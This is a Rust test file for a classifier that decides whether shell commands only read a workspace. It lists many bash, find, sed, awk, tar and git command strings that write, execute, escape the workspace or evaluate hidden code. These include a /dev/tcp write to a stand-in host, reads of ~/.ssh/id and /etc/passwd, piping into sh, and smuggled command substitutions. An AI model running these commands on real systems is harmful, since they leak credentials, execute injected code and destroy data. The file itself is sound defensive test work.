//! Commands that do more than they seem to. Each was seen to do it with the real program; none may be taken for one that
//! only reads the workspace.

mod common;

use common::{argv, only_reads, said, shell};

/// Scripts, as `sh -c` runs them.
const SCRIPTS: &[&str] = &[
    // Words that become several, or options, where one is expected.
    r"x='a -delete'; find . -name $x",
    "find . -name $(cat list)",
    "echo 'a -delete' | xargs find . -name",
    "find . -name *",
    "sort -t * data",
    "awk -F * '{print}'",
    "nice -n * ls",
    "timeout -s * 5 ls",
    "timeout 5* ls",
    "grep /etc/hos* x",
    "grep ../* x",
    "grep -e /etc/* x",
    "git in* log",
    r#"sort "$X" f"#,
    r#"grep "$X" f"#,
    // What one shell reads in another way than the next.
    "[[ x || ./evil ]]",
    "[[ a > victim ]]",
    "(( 1 > 2 ))",
    r"echo $'a\'; rm x #'",
    r#"echo "${y-'}"; rm a; echo "'}""#,
    "cat <<$'E'\nE\ntouch p\n$E\n",
    // Words of the shell itself.
    "jobs -x ./evil",
    "wait -n -p 'a[$(touch p)]'",
    "wait -n -p PATH; ls",
    "bash -o keyword -c 'ls LD_PRELOAD=/ws/evil.so'",
    "bash -o $x -c ls",
    "trap 'touch p' EXIT",
    "exec > out",
    "eval \"$X\"",
    "ls() { touch p; }; ls",
    "alias ls='touch p'; ls",
    "set -- x; PATH=.; ls",
    // Text that is evaluated.
    "a=([x]=1)",
    "a=(['b[$(touch p)]']=1)",
    "a+=([x]=1)",
    "a=(1 [x]+=1)",
    "[ $x ]",
    "[ -n $x ]",
    "[ -f * ]",
    "[ -v 'a[$(touch p)]' ]",
    "test -R x",
    "echo ${x:-<(touch p)}",
    "echo ${x:=y}",
    "echo ${!x}",
    "echo ${x@P}",
    "echo $((a[0]))",
    "echo $((x))",
    ": {PATH}>/dev/null; ls",
    "coproc PATH { cat; }; ls",
    "coproc touch p",
    "[[ $(touch p) ]]",
    "case $(touch p) in x) ;; esac",
    "for x in $(touch p); do :; done",
    "echo \"`touch p`\"",
    "echo \"$(echo \"$(touch p)\")\"",
    "cat <<E\n$(touch p)\nE\n",
    "cat <<< $(touch p)",
    "! (touch p)",
    "!(touch p)",
    "time touch p",
    "{ touch p; }",
    "if touch p; then :; fi",
    "while touch p; do break; done",
    "ls | tee p",
    "ls |& tee p",
    "ls &> p",
    "ls >& p",
    "ls 1>&12-3",
    "echo hi >&1-2",
    "ls <> p",
    "ls >| p",
    "echo x > /dev/tcp/evil.test/80",
    "r\\m x",
    "'r''m' x",
    "{rm,-rf,x}",
    "$CMD x",
    "cat x | sh",
    "bash <<< 'touch p'",
    "bash < script",
    // Paths that lead out.
    "cat */../../secret",
    "cat src/*/../../../x",
    "grep -r SECRET .*",
    "cat .*/x",
    "cd ..; cat x",
    "cd sub && cat ../../x",
    "cd -; cat x",
    "cat ~/.ssh/id",
    "cat ~root/x",
    "cat ~/a..b",
    "[ -e ~/.ssh/id ]",
    "test /etc/x -nt b",
    // Programs with languages of their own.
    r"find ls -exec env {} \;",
    "find . -exec uniq a + -D ';'",
    "find . -exec sort f + -o -name ';'",
    r"find p -exec awk {} f \;",
    r"find . -exec sh -c 'cat {}' \;",
    r"find . -execdir cat ../x \;",
    "find . -fprint p",
    "find . -fls p",
    "find . -ok rm {} \\;",
    "sed 's/a/b/w out' f",
    "sed -n '/x/w out' f",
    "sed 's/a/b/e' f",
    "sed -f script f",
    "sed --in-place=.bak p f",
    "sed -ni p f",
    "sed '1r /etc/passwd' f",
    "awk '{print > \"p\"}' f",
    "awk '{print | \"sh\"}' f",
    "awk -f script f",
    "jq -R -f prog ../sec",
    "jq ../sec -f x",
    "jq -n 'import \"secret\" as $d {search:\"/outside\"}; $d'",
    "strings @a",
    "strings *",
    "md5sum *",
    "sha256sum -c list",
    "wc --files0-from=list",
    "xxd -bc in out",
    "xxd -ps in out",
    "xxd -r in out",
    "uniq in out",
    "tree -Po '*.rs' victim",
    "tree -o victim",
    "diff -l a b",
    "tar tfI x.tar ./evil",
    "tar tfv /etc/x.tar",
    "tar cfz /etc/x.tgz src",
    "tar -xf x.tar",
    "tar --to-command=./evil -xf x",
    "ls | xargs rm",
    "xargs -I{} sh -c '{}'",
    "env -S 'touch p'",
    "env -iC .. cat ../etc/passwd",
    "env -i ls",
    "env -u HOME git log",
    "nohup ls",
    "time -o p ls",
    "timeout 5 touch p",
    "stdbuf -oL touch p",
    "flock lock touch p",
    "watch touch p",
    "busybox touch p",
    "sudo ls",
    "cargo --version",
    "yarn --version",
    "bundle list",
    "go version",
    "npm ls",
    "hostname -f",
    "date -s now",
    "date 01010101",
    "ksh -c '[ a[0] -eq 1 ]'",
    "zsh -c 'cat =ls'",
    "less f",
    "rg --pre ./x pat",
    "rg -z pat",
    "rg --hostname-bin ./x pat",
    "sort --compress-program=./x f",
    "sort -oout f",
    "sort --files0-from=list",
    "file -C -m x",
    // git
    "git symbolic-ref HEAD refs/heads/x",
    "git branch --abbrev newb",
    "git branch --abbrev --edit-description",
    "git branch --unset-upstream",
    "git branch --sort --list newc",
    "git branch newb",
    "git branch -d x",
    "git tag --format --list v1",
    "git tag v1",
    "git stash -p list",
    "git stash",
    "git grep -e -- '-Otouch P;:'",
    "git grep -O x",
    "git grep --open-files-in-pager=x y",
    "git diff --no-index -S -- --output=victim a b",
    "git diff --output=victim",
    "git diff --ext-diff",
    "git diff --no-index list ./../sec",
    "git diff --no-index a sub/../../x",
    "git remote show origin",
    "git remote add x y",
    "git bisect view format-patch",
    "git merge-tree A B",
    "git log --show-signature",
    "git log '--format=%G?'",
    "git for-each-ref --format='%(signature)'",
    "git cat-file --textconv HEAD:x",
    "git help log",
    "git blame --abbrev --contents=/etc/hostname f",
    "git config --get-regexp --file=/root/.gitconfig .",
    "git config --global --list",
    "git config a.b c",
    "git config --unset a.b",
    "git -c alias.x='!touch p' x",
    "git --exec-path=. log",
    "git --git-dir=/x log",
    "git -C .. log",
    "git x",
    "git fetch",
    "git ls-remote",
    "git reflog expire --all",
    "git worktree add ../x",
    "git notes add -m x",
    "git add .",
    "git checkout .",
    "git clean -fd",
];

#[test]
fn no_command_that_does_more_is_taken_for_one_that_reads() {
    let missed: Vec<&&str> = SCRIPTS.iter().filter(|script| only_reads(&shell(script))).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn what_bash_evaluates_is_not_taken_for_text() {
    for script in [
        "[[ a > b && $(touch p) ]]",
        "(( a[$(touch p)] ))",
        r"$'r\x6d' x",
        "[[ -v 'a[$(touch p)]' ]]",
        "[[ x -eq 1 ]]",
        "[[ a[0] -eq 1 ]]",
    ] {
        assert!(!only_reads(&argv(&["bash", "-c", script])), "{script}");
    }
}

#[test]
fn a_directory_that_is_left_again_and_again_is_not_followed() {
    use std::path::Path;

    use effects::Command;
    use model::{OsText, WorkspacePath};

    let sub = WorkspacePath::parse("sub").expect("inside");
    for script in [
        "for i in 1 2 3; do cd ..; cat etc/passwd; done",
        "while cd ..; do cat etc/passwd; done",
        "trap 'cat ../etc/passwd' EXIT; cd ..",
        "env -iC .. cat ../etc/passwd",
        "find .. -execdir cat ../etc/passwd \\;",
    ] {
        let argv = ["sh", "-c", script].map(|word| OsText::new(word).expect("no NUL"));
        let workspace = Path::new("/ws");
        let effects =
            effects::of_command(Command { argv: &argv, directory: Some(&sub), workspace, variables: &[] });
        assert!(!only_reads(&effects), "{script}: {:?}", said(&effects));
    }
}

#[test]
fn a_script_that_is_made_to_be_slow_or_deep_is_answered() {
    let nested = |open: &str, close: &str, times| format!("{}ls{}", open.repeat(times), close.repeat(times));
    for script in [
        format!("echo {}{}", "${x[".repeat(12), "]}".repeat(12)),
        "case x in x) ".repeat(25),
        nested("(", ")", 400),
        nested("$(", ")", 400),
        nested("{ ", "; }", 400),
        nested("if true; then ", "; fi", 300),
        nested("while true; do ", "; done", 300),
        nested("! ", "", 3000),
        "(".repeat(16_000),
        "`".repeat(15_000),
        "\"$(".repeat(4000),
        "ls; ".repeat(4000),
        "ls | ".repeat(3000),
        "<<E ".repeat(3000),
        format!("ls {}", "x".repeat(17_000)),
    ] {
        let _ = shell(&script);
    }
    let evals = [["eval"; 3000].as_slice(), &["touch", "p"]].concat().join(" ");
    assert!(!only_reads(&shell(&evals)));
}
